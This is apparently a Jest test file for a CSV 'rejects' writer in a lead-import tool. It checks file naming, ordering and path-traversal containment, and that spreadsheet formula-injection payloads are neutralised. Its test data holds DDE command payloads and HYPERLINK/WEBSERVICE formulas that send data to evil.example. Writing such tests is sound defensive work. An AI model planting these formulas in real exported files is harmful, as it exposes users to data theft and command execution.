import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { openCsv } from '../../../src/drivers/files/csv';
import { openRejects } from '../../../src/drivers/files/rejects';
import type { FileRow } from '../../../src/ports/lead-file';

let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'baton-rejects-'));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

type Row = Readonly<Record<string, string>> | string;

async function written(
  rows: readonly Row[],
  columns?: readonly string[],
): Promise<readonly (readonly string[])[]> {
  const rejects = openRejects(folder, 'leads.csv', columns && (() => Promise.resolve(columns)));
  for (const row of rows) await rejects.add(7, 'no name', row);
  await rejects.close();
  return cellsIn(rejects.path);
}

/** As an independent reader sees it. */
async function cellsIn(path: string): Promise<string[][]> {
  return parse(await readFile(path), { bom: true, record_delimiter: '\r\n' });
}

async function rowsIn(path: string): Promise<readonly FileRow[]> {
  const rows: FileRow[] = [];
  for await (const row of openCsv(path).rows()) rows.push(row);
  return rows;
}

describe('the file', () => {
  test('is not made before the first refused row', async () => {
    const rejects = openRejects(join(folder, 'new'), 'leads.csv');
    await rejects.close();
    expect(await readdir(folder)).toEqual([]);
  });

  test('is named after the imported one and holds line, reason and the columns of the row', async () => {
    const rejects = openRejects(join(folder, 'new'), '/somewhere/leads of May.csv');
    await rejects.add(3, 'no company, no e-mail', { id: '1', name: 'Zoë' });
    await rejects.add(9, 'no name', { name: '', id: '2' });
    await rejects.close();
    expect(basename(rejects.path)).toBe('leads of May rejected.csv');
    expect(await readFile(rejects.path, 'utf8')).toBe(
      '\uFEFFline,reason,id,name\r\n3,"no company, no e-mail",1,Zoë\r\n9,no name,2,\r\n',
    );
  });

  test('of a later or simultaneous run is another one', async () => {
    const runs = Array.from({ length: 5 }, () => openRejects(folder, 'leads.csv'));
    await Promise.all(runs.map((run, at) => run.add(at, 'no name', { id: `of run ${at}` })));
    await Promise.all(runs.map((run) => run.close()));
    expect(new Set(runs.map((run) => run.path)).size).toBe(5);
    for (const [at, run] of runs.entries()) expect((await cellsIn(run.path))[1]?.[2]).toBe(`of run ${at}`);
    expect((await readdir(folder)).toSorted()).toEqual([
      'leads rejected 2.csv',
      'leads rejected 3.csv',
      'leads rejected 4.csv',
      'leads rejected 5.csv',
      'leads rejected.csv',
    ]);
  });

  test('keeps rows whole and in order when the caller does not wait', async () => {
    const rejects = openRejects(folder, 'leads.csv');
    const rows = Array.from({ length: 200 }, (_, at) =>
      rejects.add(at, 'no name', { id: `${at}`, note: 'x'.repeat(at * 10) }),
    );
    await Promise.all(rows);
    await rejects.close();
    expect((await cellsIn(rejects.path)).slice(1).map((cells) => cells[0])).toEqual(
      rows.map((_, at) => `${at}`),
    );
  });

  test.each(['../../etc/passwd', '..', '', 'a'.repeat(400), 'C:\\x\\y.csv'])(
    'stays in its folder: %s',
    async (name) => {
      const rejects = openRejects(join(folder, 'in'), name);
      await rejects.add(1, 'no name', { id: '1' });
      await rejects.close();
      expect(await readdir(folder)).toEqual(['in']);
      expect(await readdir(join(folder, 'in'))).toHaveLength(1);
    },
  );

  test('a folder that cannot be made is a fault, and so is every row after it', async () => {
    await writeFile(join(folder, 'a-file'), '');
    const rejects = openRejects(join(folder, 'a-file', 'in'), 'leads.csv');
    await expect(rejects.add(1, 'no name', { id: '1' })).rejects.toMatchObject({ code: 'unexpected' });
    await expect(rejects.add(2, 'no name', { id: '2' })).rejects.toMatchObject({
      todo: expect.stringMatching(/folder/),
    });
    await rejects.close();
  });
});

describe('a row that could not be read', () => {
  test('stands as it is in the first of the known columns', async () => {
    expect(await written(['1,"a', { id: '2', name: 'b' }], ['id', 'name'])).toEqual([
      ['line', 'reason', 'id', 'name'],
      ['7', 'no name', '1,"a', ''],
      ['7', 'no name', '2', 'b'],
    ]);
  });

  test('is put under the columns of the imported file', async () => {
    const path = join(folder, 'leads.csv');
    await writeFile(path, 'id;name\n1;"a\n');
    const rejects = openRejects(folder, 'leads.csv', openCsv(path).columns);
    for (const row of await rowsIn(path)) if ('bad' in row) await rejects.add(row.line, row.bad, row.text);
    await rejects.close();
    expect(await cellsIn(rejects.path)).toEqual([
      ['line', 'reason', 'id', 'name'],
      ['2', 'a quote is opened and never closed', '1;"a', ''],
    ]);
  });

  test('that comes first, the columns unknown, makes a column of texts; nothing is lost', async () => {
    expect(await written(['1,"a', { id: '2', name: 'b,c' }])).toEqual([
      ['line', 'reason', 'text'],
      ['7', 'no name', '1,"a'],
      ['7', 'no name', '2,"b,c"'],
    ]);
  });
});

describe('formulas and quoting (S11)', () => {
  const signs = ['=', '+', '-', '@', '\t', '\r', '\n', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
  const tails = [
    '1+1',
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example?x="&A1,"click")',
    'SUM(A1:A9)*cmd|"/c calc"!A1',
    'x,=1+1',
    '"=1+1"',
    'a\r\n=1+1',
    '',
    '@SUM(1)',
    'WEBSERVICE("http://evil.example")',
    ' 555 0101',
  ];
  const prefixes = ['', "'", "''"];
  const formulas = signs.flatMap((sign) =>
    tails.flatMap((tail) => prefixes.map((prefix) => `${prefix}${sign}${tail}`)),
  );
  const harmless = [
    '',
    'Ann',
    '"',
    '""',
    ',',
    ';',
    'a\tb',
    'a\nb',
    'a\r\nb',
    ' a ',
    'ü🚚',
    "O'Neil",
    "'quoted'",
    '1-1',
    'a=b',
    'x@y.example',
  ];
  const danger = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

  test(`${formulas.length} formulas: no cell begins like one, and reading the file again gives back every cell`, async () => {
    expect(formulas.length).toBeGreaterThanOrEqual(100);
    const rows = [...formulas, ...harmless].map((cell, at) => ({ id: `${at}`, cell, 'last one': cell }));
    const cells = await written(rows);
    expect(cells).toHaveLength(rows.length + 1);
    expect(cells.flat().filter((cell) => danger.test(cell))).toEqual([]);
    const again = await rowsIn(join(folder, 'leads rejected.csv'));
    const withPlainLineEnds = rows.map((row) => ({
      ...row,
      cell: row.cell.replace(/\r\n|\r/g, '\n'),
      'last one': row.cell.replace(/\r\n|\r/g, '\n'),
    }));
    expect(again.map((row) => ('columns' in row ? row.columns : row))).toEqual(withPlainLineEnds);
  });

  test('a reason, a text and the name of a column are made harmless too', async () => {
    const rejects = openRejects(folder, 'leads.csv');
    await rejects.add(1, '=1+1', { '=cmd': 'x', '@b': 'y' });
    await rejects.add(2, '-', '=1+1,2');
    await rejects.close();
    expect((await cellsIn(rejects.path)).flat().filter((cell) => danger.test(cell))).toEqual([]);
    expect(await openCsv(rejects.path).columns()).toEqual(['=cmd', '@b']);
  });

  test('what is no formula is not touched', async () => {
    const cells = await written(harmless.map((cell) => ({ cell, id: '1' })));
    expect(cells.slice(1).map((row) => row[2])).toEqual(harmless);
  });
});
